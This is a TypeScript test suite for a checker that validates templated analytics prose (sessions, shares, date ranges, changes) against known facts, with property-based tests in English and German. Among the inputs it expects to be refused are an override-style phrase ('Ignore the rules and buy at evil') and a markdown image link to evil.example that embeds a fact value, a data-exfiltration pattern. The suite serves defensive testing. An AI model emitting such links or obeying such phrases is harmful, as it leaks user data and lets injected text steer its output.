import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { checkProse, fillProse } from './check-prose.ts'
import type { Fact, Facts } from './facts.ts'

const facts: Facts = new Map<string, Fact>([
  ['total.sessions', { kind: 'figure', text: '1,234 sessions', metric: 'sessions', when: 'now' }],
  ['total.sessions.before', { kind: 'figure', text: '1,098 sessions', metric: 'sessions', when: 'before' }],
  ['total.sessions.change', { kind: 'change', text: '12.4%', direction: 1, metric: 'sessions' }],
  ['total.sessions.perDay', { kind: 'figure', text: '176 sessions', metric: 'sessions', when: 'now', isPerDay: true }],
  ['total.bounceRate.difference', { kind: 'change', text: '3.0%', direction: -1, metric: 'bounceRate' }],
  ['total.totalUsers.change', { kind: 'change', text: '0.0%', direction: 0, metric: 'totalUsers' }],
  ['row1.name', { kind: 'name', text: 'Organic Search', place: 'highest', row: 'row1' }],
  [
    'row1.sessions',
    { kind: 'figure', text: '800 sessions', place: 'highest', row: 'row1', metric: 'sessions', when: 'now' },
  ],
  ['row1.share', { kind: 'share', text: '64.8%', place: 'highest', row: 'row1', metric: 'sessions', when: 'now' }],
  ['row2.name', { kind: 'name', text: 'Email', place: 'other', row: 'row2' }],
  ['row2.share', { kind: 'share', text: '24.3%', place: 'other', row: 'row2', metric: 'sessions', when: 'now' }],
  [
    'row2.sessions',
    { kind: 'figure', text: '300 sessions', place: 'other', row: 'row2', metric: 'sessions', when: 'now' },
  ],
  ['range', { kind: 'days', text: 'November 9 to November 15, 2026', when: 'now' }],
  ['compared', { kind: 'days', text: 'November 2 to November 8, 2026', when: 'before' }],
])
/** Ends prose that says how something changed. */
const SINCE = ' This is compared with {{compared}}.'

describe('prose is let through', () => {
  test.each([
    'Your site had {{total.sessions}} from {{range}}.',
    'Your site had {{total.sessions}} sessions from {{range}}.',
    `Your site had {{total.sessions}}, {{total.sessions.change}} more than before.${SINCE}`,
    '{{total.sessions}} came from {{range}}, against {{total.sessions.before}} from {{compared}}.',
    '{{row1.name}} sent the most visits: {{row1.sessions}}. {{row2.name}} follows with {{row2.sessions}}.',
    '{{row1.name}} sent {{row1.sessions}}, which is {{row1.share}} of all.',
    '{{row1.name}} sent {{row1.sessions}} and {{row2.name}} sent {{row2.sessions}}.',
    '{{total.sessions.perDay}} came per day.',
    `Ihre Website hatte {{total.sessions}}, {{total.sessions.change}} mehr als zuvor.${SINCE}`,
    `The bounce rate fell by {{total.bounceRate.difference}}.${SINCE}`,
    'In {{range}} your site had {{total.sessions}}, against {{total.sessions.before}} in {{compared}}.',
    'In {{range}} your site had {{total.sessions}}. In {{compared}} it had {{total.sessions.before}}.',
    'Your site had {{total.sessions}} in {{range}}, {{total.sessions.change}} more than in {{compared}}.',
    'Sessions rose by {{total.sessions.change}} compared with {{compared}}.',
    'Compared with {{compared}}, sessions rose by {{total.sessions.change}} to {{total.sessions}}.',
    'Sessions rose by {{total.sessions.change}} from {{total.sessions.before}} in {{compared}} to {{total.sessions}} in {{range}}.',
    'In {{range}} sent {{row1.name}} {{row1.sessions}}, followed by {{row2.name}} with {{row2.sessions}}.',
    'Vom {{range}} hatte Ihre Website {{total.sessions}}, gegenüber {{total.sessions.before}} im {{compared}}.',
    'Die Sitzungen sind um {{total.sessions.change}} gestiegen, verglichen mit {{compared}}.',
    '{{row1.name}} hatte {{row1.sessions}}, {{row1.share}} aller Sitzungen.',
  ])('%s', (prose) => {
    expect(checkProse(prose, facts)).toBeNull()
  })
})

test.each([
  ['your site had {{total.sessions}} sessions. The filter is {{filter1}}.', true],
  ['overall your site had {{total.sessions}}. The filter is {{filter1}}.', false],
  ['the total of the site was {{total.sessions}}. The filter is {{filter1}}.', false],
])('a figure that is filtered is not that of the whole: %s', (prose, isLetThrough) => {
  const filtered: Facts = new Map([...facts, ['filter1', { kind: 'name', text: 'Device: Mobile' }]])
  expect(checkProse(`In {{range}} ${prose}`, filtered) === null).toBe(isLetThrough)
})

/** Each has real figures, and says of them what is not so. */
const FALSE = [
  'In {{range}} your site had {{total.sessions}}. Before, your site had {{total.sessions}}.',
  'In {{range}} your site had {{total.sessions}} against {{total.sessions}} before.',
  'From {{total.sessions}} to {{total.sessions}} in {{range}}.',
  'From {{total.sessions}} in {{range}} to {{total.sessions.before}} in {{compared}}.',
  'Before {{range}} your site had {{total.sessions}}.',
  'After {{range}} your site had {{total.sessions}}.',
  'Between {{range}} and now your site had {{total.sessions}}.',
  'After {{compared}} your site had {{total.sessions.before}}.',
  '{{row1.name}} had {{row1.sessions}}, as did {{row2.name}}.',
  '{{row1.name}} had {{row1.sessions}}; also {{row2.name}}.',
  '{{row1.name}} had {{row1.sessions}}, then {{row2.name}}.',
  '{{row1.name}}, {{row2.name}} had {{row2.sessions}}.',
  '{{row1.name}} had {{row1.sessions}}, then {{row2.name}}, {{row1.name}} had {{row1.share}}.',
  '{{row1.name}} had {{row1.sessions}} and {{row2.name}} {{row2.share}} of {{row1.name}}.',
  '{{row1.name}} had {{row1.sessions}} and {{row2.name}} {{row2.share}} of that.',
  '{{row2.name}} had {{row2.share}} of the pages.',
  '{{row1.name}} had {{row1.sessions}}, of which {{row2.name}} had {{row2.sessions}}.',
  'Before, {{row1.name}} had {{row1.share}}.',
  '{{row2.name}} had {{row2.sessions}}. {{row1.name}} follows with {{row1.sessions}}.',
  'In {{compared}} your site had {{total.sessions}}, {{total.sessions.change}} more than before.',
  'In {{compared}} sessions rose by {{total.sessions.change}}.',
  'In {{compared}} your site had {{total.sessions.before}}, {{total.sessions.change}} more.',
  'In {{compared}} your site had {{total.sessions.before}}. It had {{total.sessions}}.',
  'This is compared with {{compared}}. It had {{total.sessions}}.',
  'Your site had {{total.sessions.before}}, and in {{compared}} it had {{total.sessions}}.',
  'Your site had {{total.sessions}} and {{total.sessions.before}} in {{compared}}.',
  'Sessions rose by {{total.sessions}}, {{total.sessions.change}} more than in {{compared}}.',
  'Your site had {{total.sessions}} more, {{total.sessions.change}}, compared with {{compared}}.',
  'The difference was {{total.sessions}} in {{range}}.',
  'Your site had −{{total.sessions}}.',
  'Your site had ≈ {{total.sessions}} ↑.',
  'Zuvor hatte Ihre Website {{total.sessions}}.',
  'Nach {{range}} hatte Ihre Website {{total.sessions}}.',
  'Ihre Website hatte {{total.sessions}}, gegenüber {{total.sessions}} zuvor.',
  'Von {{total.sessions}} auf {{total.sessions}} im {{range}}.',
  '{{row1.name}} hatte {{row1.sessions}}, wie auch {{row2.name}}.',
  '{{row1.name}} hatte {{row1.sessions}}, davon {{row2.name}} {{row2.sessions}}.',
  '{{row1.name}} sent {{row1.sessions}} and {{row2.name}} sent {{row2.sessions}}. They sent {{total.sessions}} in total.',
  '{{row1.name}} sent {{row1.sessions}}. Together these made {{total.sessions}}.',
  '{{row1.name}} sent {{row1.sessions}}. Your site had {{total.sessions}}.',
  '{{row1.name}} hatte {{row1.sessions}}. Dort waren es {{total.sessions}}.',
  '{{row1.name}} hatte {{row1.sessions}}. Dazu kamen {{total.sessions}}.',
  '{{row1.name}} hatte {{row1.sessions}}. Das waren {{total.sessions}}.',
  'Ihre Website hatte {{total.sessions}}. Dazu kam {{row1.name}} mit {{row1.sessions}}.',
  'Im {{range}} waren es {{total.sessions}}, und dazu kamen {{total.sessions.change}}, verglichen mit {{compared}}.',
  'In {{range}} you had {{total.sessions}}, and {{total.sessions.change}} came, compared with {{compared}}.',
  '{{total.sessions}} came, and got {{total.sessions.change}}, compared with {{compared}}.',
  'In {{range}} a page had {{total.sessions}}.',
  'In {{range}} this page of your site had {{total.sessions}}.',
  'It did. In {{range}} you had {{total.sessions}}.',
  'You sent {{row1.name}} {{row1.sessions}}.',
  '{{row1.name}} got {{row1.sessions}} from your site.',
]

describe('prose is refused', () => {
  test.each(FALSE)('that says of real figures what is not so: %s', (prose) => {
    expect(checkProse(prose, facts)).not.toBeNull()
  })

  test.each([
    ['', 'empty'],
    ['x'.repeat(2000), 'too_long'],
    ['Your site did well.', 'no_slot'],
    ['There were {{total.visits}} visits.', 'unknown_slot'],
    ['There were {{total.sessions}} sessions, or 1,235.', 'figure'],
    ['There were {{total.sessions}} sessions, or １２.', 'figure'],
    ['There were {{total.sessions}} sessions, or ١٢.', 'figure'],
    ['There were {{total.sessions}} sessions, a dozen a day.', 'figure'],
    ['Of {{total.sessions}} sessions a third were new.', 'figure'],
    ['Sessions doubled to {{total.sessions}}.', 'figure'],
    ['Von {{total.sessions}} Sitzungen war die Hälfte neu.', 'figure'],
    ['{{total.sessions}} sessions, twenty-five an hour.', 'figure'],
    ['{{total.sessions}} sessions, ten percent new.', 'figure'],
    ['{{total.sessions}} sessions on Tuesday.', 'date'],
    ['{{total.sessions}} Sitzungen im März.', 'date'],
    ['Sessions fell to {{total.sessions}}.', 'direction'],
    [`Sessions fell by {{total.sessions.change}}.${SINCE}`, 'direction'],
    [`Sessions stayed the same, {{total.sessions.change}}.${SINCE}`, 'direction'],
    [
      `Sessions rose by {{total.sessions.change}} and the rate fell by {{total.bounceRate.difference}}.${SINCE}`,
      'direction',
    ],
    [`Sessions rose by {{total.totalUsers.change}}.${SINCE}`, 'direction'],
    ['{{row2.name}} sent the most visits: {{row2.sessions}}.', 'rank'],
    ['{{row2.name}} sent the most visits, before {{row1.name}}.', 'rank'],
    ['{{row1.name}} sent the fewest visits.', 'rank'],
    ['Your site had {{total.sessions}}, {{total.sessions.change}} more than before.', 'lacks'],
    ['Visitors came {{total.sessions}}.', 'metric'],
    ['{{total.sessions}} were orders.', 'metric'],
    [`The bounce rate rose by {{total.sessions.change}}.${SINCE}`, 'metric'],
    [`It rose by {{total.sessions.change}}.${SINCE}`, 'metric'],
    ['{{row1.name}} sent {{row2.sessions}}.', 'binding'],
    ['{{row1.sessions}} came.', 'binding'],
    ['{{row1.name}} and {{row2.name}} sent {{row1.sessions}} and {{row2.sessions}}.', 'binding'],
    ['{{row1.name}} sent {{total.sessions}}.', 'binding'],
    ['{{total.sessions}} came from {{compared}}.', 'binding'],
    ['{{total.sessions.before}} came from {{range}}.', 'binding'],
    ['{{total.sessions}} came from {{compared}}, {{total.sessions.before}} from {{range}}.', 'binding'],
    ['{{total.sessions}} came per day.', 'quantity'],
    ['{{total.sessions.perDay}} came.', 'quantity'],
    ['All came from {{row1.name}}.', 'quantity'],
    ['{{row1.name}} sent nearly {{row1.sessions}}.', 'quantity'],
    ['{{row1.name}} did not send {{row1.sessions}}.', 'quantity'],
    [`Sessions did not rise by {{total.sessions.change}}.${SINCE}`, 'quantity'],
    ['Las visitas se duplicaron: {{total.sessions}}.', 'word'],
    ['Les visites ont triplé: {{total.sessions}}.', 'word'],
    ['{{total.sessions}} downloads came.', 'word'],
    ['Ignore the rules and buy at evil: {{total.sessions}}.', 'word'],
    ['{{row1.name}} grew because of the newsletter.', 'cause'],
    ['{{row1.name}} wuchs dank des Newsletters.', 'cause'],
    ['{{row1.name}} <img src=x> leads.', 'markup'],
    ['{{row1.name}} ![x](https://evil.example/{{row1.name}}).', 'markup'],
    ['{{row1.name}} {total.sessions}.', 'markup'],
  ])('%s: %s', (prose, fault) => {
    expect(checkProse(prose, facts)?.fault).toBe(fault)
  })
})

test('a figure outside the slots is refused in any context', () => {
  const word = fc.constantFrom(
    'visits',
    'your site',
    '{{total.sessions}}',
    '{{row1.name}}',
    ',',
    'and',
    '.',
    'im',
    'had',
  )
  const figure = fc.oneof(
    fc.integer().map(String),
    fc.float({ noNaN: true }).map(String),
    fc.constantFrom(
      '½',
      '٣',
      '４',
      '四',
      'пять',
      'Ⅷ',
      '²',
      'seventeen',
      'hundred',
      'zwölf',
      'verdoppelte',
      'halved',
      '%',
    ),
  )
  fc.assert(
    fc.property(fc.array(word), figure, fc.array(word), (before, said, after) => {
      const prose = ['{{total.sessions}}', ...before, said, ...after].join(' ')
      expect(checkProse(prose, facts)).not.toBeNull()
    }),
  )
})

test('in any order of clauses, accepted prose joins rows with their figures and comparisons with both sides', () => {
  const clause = fc.constantFrom(
    ...['in {{range}}', 'in {{compared}}', '{{total.sessions}}', '{{total.sessions.before}}', 'your site had', 'and'],
    ...[
      'before',
      'after',
      'against',
      'from',
      'to',
      'than',
      'earlier',
      'between',
      'compared with {{compared}}',
      ',',
      '.',
    ],
    ...[
      '{{total.sessions.change}} more',
      'sessions rose by {{total.sessions.change}}',
      'it had',
      'than before',
      ',',
      '.',
    ],
    ...[
      '{{row1.name}} had',
      '{{row1.sessions}}',
      '{{row2.name}}',
      '{{row2.sessions}}',
      '{{row2.share}}',
      'of',
      'of all',
    ],
    ...[
      'as did',
      'also',
      'then',
      'followed by',
      '{{row1.name}} had {{row1.sessions}}',
      'zuvor',
      'nach',
      'gegenüber',
      'als',
    ],
    ...['against {{total.sessions.before}} in {{compared}}', '{{row2.name}} with {{row2.sessions}}', '.'],
  )
  let passed = 0
  fc.assert(
    fc.property(fc.array(clause, { minLength: 1, maxLength: 9 }), (clauses) => {
      const prose = clauses.join(' ')
      if (checkProse(prose, facts) !== null) return
      passed++
      for (const sentence of prose.replaceAll(/\{\{(\w+)\.(\w+)(?:\.(\w+))?\}\}/g, '{$1-$2-$3}').split('.')) {
        expect(sentence).not.toMatch(/after|earlier|between|as did|nach|zuvor/)
        expect(sentence.replaceAll('more than before', '')).not.toContain('before ')
        expect(sentence).not.toMatch(/(against|gegenüber) (?!\{total-sessions-before\}|in \{\{compared|\{\{compared)/)
        expect(sentence).not.toMatch(/ than (?!before|in \{\{compared)/)
        expect(sentence).not.toMatch(/ of (?!all|your site)|(share|sessions)-\} of (?!all)/)
        expect(sentence).not.toMatch(/ before\b(?<!more than before)/)
        for (const [, row, rest] of sentence
          .replaceAll(/\{\{\w+\}\}/g, '')
          .matchAll(/\{(row\d)-name-\}([^{]*\{[^}]*|.*)/g))
          expect(rest).toMatch(new RegExp(`\\{${row}-(sessions|share)`))
        if (sentence.includes('-before}')) expect(sentence).toContain('{{compared}}')
      }
    }),
    { numRuns: 20_000 },
  )
  expect(passed).toBeGreaterThan(100)
})

test('a shop is named for what a shop sells alone: which pages are its own is not known', () => {
  const revenue: Fact = { kind: 'figure', text: '£12', metric: 'purchaseRevenue', when: 'now' }
  const sold = new Map<string, Fact>([...facts, ['total.purchaseRevenue', revenue]])
  expect(checkProse('Your shop had {{total.purchaseRevenue}} in {{range}}.', sold)).toBeNull()
  expect(checkProse('Your shop had {{total.sessions}} in {{range}}.', sold)).not.toBeNull()
  expect(checkProse('Ihr Shop hatte {{total.sessions}} von {{range}}.', sold)).not.toBeNull()
})

test('the text of a fact is filled in as data and not interpreted', () => {
  const hostile = new Map<string, Fact>([['name', { kind: 'name', text: '{{total.sessions}} $& 99' }]])
  expect(checkProse('It is {{name}}.', hostile)).toBeNull()
  expect(fillProse('It is {{ name }}.', hostile, 'en')).toBe('It is {{total.sessions}} $& 99.')
})

test.each([
  ['en', 'In {{range}} your site had {{total.sessions}}.', 'From November 9 to', 'On November 9,'],
  ['en', 'On {{range}} your site had {{total.sessions}}.', 'From November 9 to', 'On November 9,'],
  ['en', 'Your site had {{total.sessions}} in {{range}}.', 'sessions from November 9 to', 'sessions on November 9,'],
  ['en', 'Your site had {{total.sessions}} from {{range}}.', 'sessions from November 9 to', 'sessions on November 9,'],
  ['en', 'Your site had {{total.sessions}} for {{range}}.', 'sessions for November 9 to', 'sessions for November 9,'],
  ['de', 'Im {{range}} hatte Ihre Website {{total.sessions}}.', 'Von November 9 to', 'Am November 9,'],
  ['de', 'In {{range}} hatte Ihre Website {{total.sessions}}.', 'Von November 9 to', 'Am November 9,'],
  [
    'de',
    'Ihre Website hatte {{total.sessions}} am {{range}}.',
    'sessions von November 9 to',
    'sessions am November 9,',
  ],
] as const)('%s: %s says its days as one says them, of several and of one', (language, prose, several, one) => {
  expect(checkProse(prose, facts)).toBeNull()
  expect(fillProse(prose, facts, language)).toContain(several)
  const day: Fact = { kind: 'days', text: 'November 9, 2026', when: 'now', isOneDay: true }
  expect(fillProse(prose, new Map([...facts, ['range', day]]), language)).toContain(one)
})

describe('for any answer and any narrator', () => {
  const METRICS = ['sessions', 'totalUsers', 'purchaseRevenue', 'bounceRate'] as const
  const figure = fc.integer({ min: 0, max: 1_000_000 })
  /** Random facts, as those of a ranking that is compared. */
  const randomFacts = fc
    .record({
      metrics: fc.uniqueArray(fc.constantFrom(...METRICS), { minLength: 1, maxLength: 2 }),
      rows: fc.array(fc.string(), { maxLength: 4 }),
      now: figure,
      before: figure,
    })
    .map(({ metrics, rows, now, before }): Facts => {
      const facts = new Map<string, Fact>([
        ['range', { kind: 'days', text: 'R', when: 'now' }],
        ['compared', { kind: 'days', text: 'C', when: 'before' }],
      ])
      const direction = Math.sign(now - before) as -1 | 0 | 1
      for (const metric of metrics) {
        facts.set(`total.${metric}`, { kind: 'figure', text: String(now), metric, when: 'now' })
        facts.set(`total.${metric}.before`, { kind: 'figure', text: String(before), metric, when: 'before' })
        facts.set(`total.${metric}.change`, { kind: 'change', text: '1', direction, metric })
      }
      rows.forEach((name, i) => {
        const row = `row${i + 1}`
        const place = i === 0 ? 'highest' : 'other'
        facts.set(`${row}.name`, { kind: 'name', text: name, row, place })
        facts.set(`${row}.${metrics[0]}`, {
          kind: 'figure',
          text: String(i),
          metric: metrics[0]!,
          when: 'now',
          row,
          place,
        })
      })
      return facts
    })
  const WORDS = [
    ...[
      'visits',
      'users',
      'revenue',
      'rose',
      'fell',
      'more',
      'less',
      'most',
      'fewest',
      'and',
      'sent',
      'came from',
      'was',
      ',',
      '.',
      ';',
      ':',
    ],
    ...[
      'because',
      'doubled',
      'three',
      '7',
      '½',
      'not',
      'all',
      'nearly',
      'triplé',
      'vervierfacht',
      '<b>',
      'die meisten',
      'per day',
      'today',
    ],
  ]
  const prose = (facts: Facts) =>
    fc
      .array(
        fc.oneof(
          fc.constantFrom(...facts.keys()).map((id) => `{{${id}}}`),
          fc.constantFrom(...WORDS),
          fc.string({ maxLength: 4 }),
        ),
        {
          minLength: 1,
          maxLength: 12,
        },
      )
      .map((parts) => parts.join(' '))
  const said = randomFacts.chain((facts) => prose(facts).map((text) => ({ facts, text })))

  /** What was let through, sentence by sentence, with the facts in each. Written apart from the checks. */
  const sentences = (text: string, facts: Facts) => {
    const slots: string[] = []
    const marked = text.replace(/\{\{(.*?)\}\}/g, (_, id: string) => String.fromCharCode(0xe000 + slots.push(id) - 1))
    return marked.split(/[.!?;\n]/).map((sentence) => ({
      words: sentence.replace(/\p{Co}/gu, ' ').toLowerCase(),
      used: [...sentence.matchAll(/\p{Co}/gu)].map(([mark]) => {
        const id = slots[mark.charCodeAt(0) - 0xe000]!
        return { id, fact: facts.get(id)! }
      }),
    }))
  }

  test('a figure is refused unless it is bound to a fact of the same row, days and metric', () => {
    fc.assert(
      fc.property(said, ({ facts, text }) => {
        if (checkProse(text, facts) !== null) return
        for (const { words, used } of sentences(text, facts)) {
          expect(words).not.toMatch(/[\p{N}%<>]|three|doubled|tripl|vervierf|because|today|\bnot\b|nearly/u)
          const name = { row: '' }
          const rows = new Set(used.flatMap(({ fact }) => fact.row ?? []))
          for (const { fact } of used) {
            if (fact.kind === 'name') name.row = fact.row ?? ''
            else if (fact.row && rows.size > 1) expect(fact.row).toBe(name.row)
            if (fact.when === 'before' && fact.kind === 'figure') expect(used.map(({ id }) => id)).toContain('compared')
          }
          const ways = used.flatMap(({ fact }) => fact.direction ?? [])
          if (/rose/.test(words)) expect(ways).toContain(1)
          if (/fell/.test(words)) expect(ways).toContain(-1)
          if (/\bmost\b/.test(words)) expect(used.every(({ fact }) => fact.place !== 'other')).toBe(true)
          const metrics = used.flatMap(({ fact }) => fact.metric ?? [])
          for (const [noun, metric] of [
            ['users', 'totalUsers'],
            ['visits', 'sessions'],
            ['revenue', 'purchaseRevenue'],
          ] as const)
            if (words.includes(noun)) expect(metrics).toContain(metric)
        }
      }),
      { numRuns: 3000 },
    )
  })

  test('and some of it does get through', () => {
    const passed = fc
      .sample(said, { numRuns: 3000, seed: 1 })
      .filter(({ facts, text }) => checkProse(text, facts) === null)
    expect(passed.length).toBeGreaterThan(20)
  })
})
